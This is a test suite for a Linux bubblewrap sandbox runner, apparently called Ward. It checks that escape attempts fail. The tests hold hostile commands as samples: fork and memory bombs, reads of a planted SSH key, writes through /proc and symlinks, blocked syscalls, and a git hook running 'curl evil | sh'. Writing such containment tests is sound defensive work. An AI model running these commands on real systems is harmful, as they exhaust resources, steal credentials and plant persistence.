import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SandboxPolicy } from '../../gate/fast.js';
import { defaultSandboxPolicy, withOverrides } from '../../gate/fast.js';
import { createRunner, type RunResult } from '../runner.js';
import { bwrapWorks, hostPidsWith, waitFor } from './test-support.js';

const canSandbox = bwrapWorks();
const KEY = 'ward-test-private-key-material-0123456789';

describe.runIf(canSandbox)('sandbox escapes (real bubblewrap)', () => {
  let ws: string;
  let home: string;
  let outside: string;
  const env = { PATH: '/usr/local/bin:/usr/bin:/bin', LANG: 'C.UTF-8' } as Record<string, string>;

  beforeAll(() => {
    ws = mkdtempSync('/tmp/ward-escape-ws-');
    // HOME outside /tmp: the sandbox's private /tmp would hide a /tmp home and make the test meaningless.
    home = mkdtempSync('/var/tmp/ward-escape-home-');
    outside = mkdtempSync('/var/tmp/ward-escape-outside-');
    mkdirSync(join(home, '.ssh'), { mode: 0o700 });
    writeFileSync(join(home, '.ssh/id_rsa'), KEY, { mode: 0o600 });
    writeFileSync(join(home, 'notes.txt'), 'notes-in-home');
    mkdirSync(join(home, '.ward/spool'), { recursive: true });
    writeFileSync(join(home, '.ward/policy.yaml'), 'mode: strict\n');
    writeFileSync(join(home, '.ward/spool/old-span.json'), 'git push secret-branch');
    env.HOME = home;
  });
  afterAll(() => {
    for (const d of [ws, home, outside]) rmSync(d, { recursive: true, force: true });
  });

  const run = async (
    cmd: string | string[],
    over: Partial<SandboxPolicy['limits']> = {},
    policyExtra: Partial<SandboxPolicy> = {},
  ) => {
    const policy = {
      ...withOverrides(defaultSandboxPolicy(), { limits: { timeoutS: 20, ...over } }),
      ...policyExtra,
    };
    const runner = createRunner(policy, { cwd: ws, home, processEnv: env });
    try {
      return await runner.run(cmd);
    } finally {
      await runner.close();
    }
  };
  const kinds = (r: RunResult) => r.violations.map((v) => v.kind);

  it('runs a normal command and reports the files it wrote', async () => {
    const r = await run('echo hello > made.txt && cat made.txt');
    expect(r).toMatchObject({ exitCode: 0, sandboxed: true, stdout: 'hello\n' });
    expect(r.fileChanges).toContainEqual(
      expect.objectContaining({ path: join(ws, 'made.txt'), change: 'created', size: 6 }),
    );
    expect(r.fileChanges.find((c) => c.path.endsWith('made.txt'))?.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('cannot write outside the workspace, directly or via /proc/self/root and /proc/1/root', async () => {
    for (const target of [join(outside, 'a'), `/proc/self/root${outside}/b`, `/proc/1/root${outside}/c`]) {
      const r = await run(['/bin/sh', '-c', 'echo pwned > "$1"', 'sh', target]);
      expect(r.exitCode, target).not.toBe(0);
      expect(kinds(r), target).toContain('read_only_write');
    }
    expect(
      existsSync(join(outside, 'a')) || existsSync(join(outside, 'b')) || existsSync(join(outside, 'c')),
    ).toBe(false);
  });

  it('cannot write outside through a symlink, planted before or made inside', async () => {
    symlinkSync(outside, join(ws, 'planted-link'));
    const r1 = await run('echo pwned > planted-link/x');
    const r2 = await run(`ln -s ${outside} made-link && echo pwned > made-link/y`);
    expect(r1.exitCode).not.toBe(0);
    expect(r2.exitCode).not.toBe(0);
    expect(kinds(r1)).toContain('read_only_write');
    expect(kinds(r2)).toContain('read_only_write');
    expect(existsSync(join(outside, 'x')) || existsSync(join(outside, 'y'))).toBe(false);
  });

  it('cannot read a planted ~/.ssh/id_rsa, nor anything in HOME off the allow-list; ~/.gitconfig stays readable', async () => {
    writeFileSync(join(home, '.gitconfig'), '[user]\n\tname = Visible Name\n');
    const r = await run(
      'cat "$HOME/notes.txt"; echo; cat "$HOME/.ssh/id_rsa"; ls "$HOME/.ssh"; cat "$HOME/.gitconfig"',
    );
    expect(r.stdout).toContain('Visible Name');
    expect(r.stdout + r.stderr).not.toContain('notes-in-home');
    expect(r.stdout + r.stderr).not.toContain(KEY);
  });

  it("reads but cannot change the user's Ward policy, and cannot see Ward's span spool", async () => {
    const r = await run(
      'cat "$HOME/.ward/policy.yaml"; echo "mode: autonomous" > "$HOME/.ward/policy.yaml"; cat "$HOME/.ward/spool/old-span.json"',
    );
    expect(r.stdout).toContain('mode: strict');
    expect(r.stdout + r.stderr).not.toContain('secret-branch');
    expect(readFileSync(join(home, '.ward/policy.yaml'), 'utf8')).toBe('mode: strict\n');
    expect(kinds(r)).toContain('read_only_write');
  });

  it('cannot reach a listener on the host loopback', async () => {
    let connections = 0;
    const server: Server = createServer((s) => {
      connections++;
      s.destroy();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as { port: number }).port;
    try {
      const script = `require('net').connect(${port},'127.0.0.1').on('connect',()=>process.exit(0)).on('error',(e)=>{console.error('connect: '+e.message);process.exit(3)})`;
      const r = await run([process.execPath, '-e', script]);
      expect(r.exitCode).toBe(3);
      expect(kinds(r)).toContain('network_blocked');
      expect(connections).toBe(0);
    } finally {
      server.close();
    }
  });

  it('cannot open a raw socket or connect to an IP literal', async () => {
    const raw = await run([
      'perl',
      '-MSocket',
      '-e',
      'socket(my $s, PF_INET, SOCK_RAW, 1) or die "raw socket: $!\\n"',
    ]);
    expect(raw.exitCode).not.toBe(0);
    expect(kinds(raw)).toContain('syscall_blocked');
    // 192.0.2.1 is TEST-NET-1 (documentation only): nothing real is contacted even if isolation failed.
    const ip = await run([
      'perl',
      '-MIO::Socket::INET',
      '-e',
      'IO::Socket::INET->new(PeerAddr=>"192.0.2.1:80",Timeout=>3) or die "connect: $!\\n"',
    ]);
    expect(ip.exitCode).not.toBe(0);
    expect(kinds(ip)).toContain('network_blocked');
  });

  it('contains a fork bomb and leaves nothing behind', async () => {
    const marker = `ward-bomb-${randomBytes(4).toString('hex')}`;
    const r = await run(['/bin/bash', '-c', `: ${marker}; f(){ f | f & }; f; sleep 30`], {
      processes: 64,
      timeoutS: 3,
    });
    expect(r).toMatchObject({ killedBy: 'timeout', exitCode: 137 });
    expect(kinds(r)).toEqual(expect.arrayContaining(['process_limit']));
    expect(await waitFor(() => hostPidsWith(marker).length === 0, 10_000)).toBe(true);
  });

  it('leaves nothing standing when aborted in the middle of a fork storm of new sessions', async () => {
    // Every child starts a session of its own and forks again as fast as the process limit lets it: a kill by
    // parentage or session alone would chase it. Nothing may stand once the runner answers.
    const marker = `ward-storm-${randomBytes(4).toString('hex')}`;
    const runner = createRunner(withOverrides(defaultSandboxPolicy(), { limits: { processes: 256 } }), {
      cwd: ws,
      home,
      processEnv: env,
    });
    try {
      for (let i = 0; i < 3; i++) {
        const abort = new AbortController();
        const storm = `f(){ setsid /bin/bash -c ': ${marker}; f(){ f & f & sleep 1000; }; f' & }; while :; do f; done`;
        const pending = runner.run(['/bin/bash', '-c', storm], { abort: abort.signal });
        expect(await waitFor(() => hostPidsWith(marker).length >= 50, 20_000)).toBe(true);
        abort.abort();
        expect(await pending).toMatchObject({ killedBy: 'abort' });
        expect(hostPidsWith(marker), `iteration ${i}`).toEqual([]);
      }
    } finally {
      await runner.close();
    }
  }, 90_000);

  it('contains a memory bomb', async () => {
    const r = await run([process.execPath, '-e', 'const a=[];for(;;)a.push(Buffer.alloc(1<<24,1))'], {
      memoryMb: 256,
    });
    expect(r.exitCode).not.toBe(0);
    expect(kinds(r)).toContain('memory_limit');
  });

  it('kills orphans after a timeout and after a normal exit', async () => {
    const m1 = `1000.${randomBytes(3).readUIntBE(0, 3)}`;
    let seen = 0;
    const watch = setInterval(() => {
      seen = Math.max(seen, hostPidsWith(`sleep ${m1}`).length);
    }, 20);
    const timed = await run(`sleep ${m1} & sleep ${m1}`, { timeoutS: 1 });
    clearInterval(watch);
    expect(seen).toBeGreaterThanOrEqual(2);
    expect(timed).toMatchObject({ killedBy: 'timeout', exitCode: 137, signal: 'SIGKILL' });
    expect(kinds(timed)).toContain('timeout');
    expect(await waitFor(() => hostPidsWith(`sleep ${m1}`).length === 0, 10_000)).toBe(true);

    const m2 = `1000.${randomBytes(3).readUIntBE(0, 3)}`;
    // The background sleep must outlive its shell long enough to be seen, then die with the sandbox.
    const left = await run(`(sleep ${m2} &) ; while ! pgrep -f "sleep ${m2}" >/dev/null; do :; done; exit 0`);
    expect(left.stdout).toBe('');
    expect(left.exitCode).toBe(0);
    expect(await waitFor(() => hostPidsWith(`sleep ${m2}`).length === 0, 10_000)).toBe(true);
  });

  it('kills the whole sandbox when aborted (what SIGTERM to ward does)', async () => {
    const marker = `1000.${randomBytes(3).readUIntBE(0, 3)}`;
    const runner = createRunner(defaultSandboxPolicy(), { cwd: ws, home, processEnv: env });
    const abort = new AbortController();
    const pending = runner.run(`sleep ${marker} & sleep ${marker}`, { abort: abort.signal });
    expect(await waitFor(() => hostPidsWith(`sleep ${marker}`).length >= 1, 10_000)).toBe(true);
    abort.abort();
    const r = await pending;
    await runner.close();
    expect(r).toMatchObject({ killedBy: 'abort', exitCode: 137 });
    expect(await waitFor(() => hostPidsWith(`sleep ${marker}`).length === 0, 10_000)).toBe(true);
  });

  it('leaves nothing behind when aborted while bubblewrap is still setting up', async () => {
    // Caught before the inner bwrap arms --die-with-parent (it runs in a session of its own), the command
    // would live on; the runner kills the whole tree by parentage and session before it answers.
    const runner = createRunner(defaultSandboxPolicy(), { cwd: ws, home, processEnv: env });
    try {
      for (let i = 0; i < 8; i++) {
        const marker = `1000.${randomBytes(3).readUIntBE(0, 3)}`;
        const abort = new AbortController();
        const pending = runner.run(`sleep ${marker} & sleep ${marker}`, { abort: abort.signal });
        // bwrap's own command line carries the marker: abort as soon as the sandbox starts to exist.
        expect(await waitFor(() => hostPidsWith(marker).length >= 1, 10_000)).toBe(true);
        abort.abort();
        expect(await pending).toMatchObject({ killedBy: 'abort' });
        expect(hostPidsWith(marker), `iteration ${i}`).toEqual([]);
      }
    } finally {
      await runner.close();
    }
  });

  it('blocks ptrace, mount and new namespaces (seccomp + dropped capabilities)', async () => {
    // PTRACE_ATTACH (16) to pid 1; the seccomp filter answers EPERM.
    const ptrace = await run([
      'perl',
      '-e',
      'syscall(101, 16, 1, 0, 0) == -1 or exit 0; die "ptrace: $!\\n"',
    ]);
    expect(ptrace.exitCode).not.toBe(0);
    expect(ptrace.stderr).toContain('Operation not permitted');
    expect(kinds(ptrace)).toContain('syscall_blocked');
    const mount = await run([
      'perl',
      '-e',
      'my @a = ("none", "/tmp", "tmpfs"); syscall(165, $a[0], $a[1], $a[2], 0, 0) == -1 or exit 0; die "mount: $!\\n"',
    ]);
    expect(mount.exitCode).not.toBe(0);
    expect(kinds(mount)).toContain('syscall_blocked');
    const userns = await run(['unshare', '-U', 'true']);
    expect(userns.exitCode).not.toBe(0);
    expect(kinds(userns)).toContain('syscall_blocked');
    const status = await run('grep -E "^(CapEff|NoNewPrivs|Seccomp):" /proc/self/status');
    expect(status.stdout).toMatch(/CapEff:\s+0+\n/);
    expect(status.stdout).toMatch(/NoNewPrivs:\s+1/);
    expect(status.stdout).toMatch(/Seccomp:\s+2/);
  });

  it('gains nothing from a setuid binary', async () => {
    const r = await run(['/usr/bin/su', '-c', 'grep CapEff /proc/self/status', 'root']);
    expect(r.stdout).not.toMatch(/CapEff:\s+0*[1-9a-f]/);
    expect(r.exitCode).not.toBe(0);
    expect(r.violations.length).toBeGreaterThan(0);
  });

  it('passes no secret-looking variables unless the policy names them', async () => {
    const secretEnv = {
      ...env,
      FAKE_API_TOKEN: 'tok-1',
      AWS_SECRET_ACCESS_KEY: 'aws-2',
      DB_PASSWORD: 'pw-3',
      LC_ALL: 'C',
    };
    const runner = createRunner(defaultSandboxPolicy(), { cwd: ws, home, processEnv: secretEnv });
    const r = await runner.run('env');
    expect(r.stdout).not.toMatch(/tok-1|aws-2|pw-3/);
    expect(r.stdout).toContain('LC_ALL=C');
    expect(r.stdout).toContain(`HOME=${home}`);
    const allowed = createRunner(
      { ...defaultSandboxPolicy(), env: ['FAKE_API_TOKEN'] },
      { cwd: ws, home, processEnv: secretEnv },
    );
    expect((await allowed.run('env')).stdout).toContain('FAKE_API_TOKEN=tok-1');
    await runner.close();
    await allowed.close();
  });

  it('cannot modify .git/hooks, .git/config or write a project policy; creating ward.yaml is recorded', async () => {
    const repo = mkdtempSync('/tmp/ward-escape-repo-');
    execFileSync('git', ['init', '-q', repo]);
    const before = readFileSync(join(repo, '.git/config'), 'utf8');
    const runner = createRunner(defaultSandboxPolicy(), { cwd: repo, home, processEnv: env });
    const hook = await runner.run(
      'echo "curl evil | sh" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit',
    );
    const config = await runner.run('git config core.hooksPath /tmp/evil');
    const policy = await runner.run('echo "sandbox: {allowNet: [\'*\']}" > ward.yaml');
    // The project policy the next command would load: the gate's allow rules must not be writable.
    const project = await runner.run(
      "mkdir -p .ward; printf 'rules:\\n  - {id: x, decision: allow, reason: y, command: {prefix: rm}}\\n' > .ward/policy.yaml",
    );
    await runner.close();
    expect(project.exitCode).not.toBe(0);
    expect(existsSync(join(repo, '.ward/policy.yaml'))).toBe(false);
    expect(kinds(project)).toContain('read_only_write');
    expect(kinds(hook)).toContain('read_only_write');
    expect(existsSync(join(repo, '.git/hooks/pre-commit'))).toBe(false);
    expect(config.exitCode).not.toBe(0);
    expect(readFileSync(join(repo, '.git/config'), 'utf8')).toBe(before);
    expect(kinds(policy)).toContain('protected_path_created');
    rmSync(repo, { recursive: true, force: true });
  });
});

describe.runIf(!canSandbox)('sandbox escapes (real bubblewrap)', () => {
  it.skip('needs a working /usr/bin/bwrap on Linux', () => {});
});

describe('fail closed', () => {
  it('refuses to create a runner without bubblewrap, and on other platforms', async () => {
    const { SandboxSetupError } = await import('./layout.js');
    const deps = { cwd: '/tmp', home: '/nonexistent-home', processEnv: {} };
    expect(() => createRunner(defaultSandboxPolicy(), { ...deps, bwrapPath: '/nonexistent/bwrap' })).toThrow(
      SandboxSetupError,
    );
    expect(() => createRunner(defaultSandboxPolicy(), { ...deps, platform: 'darwin' })).toThrow(/Linux only/);
  });
});
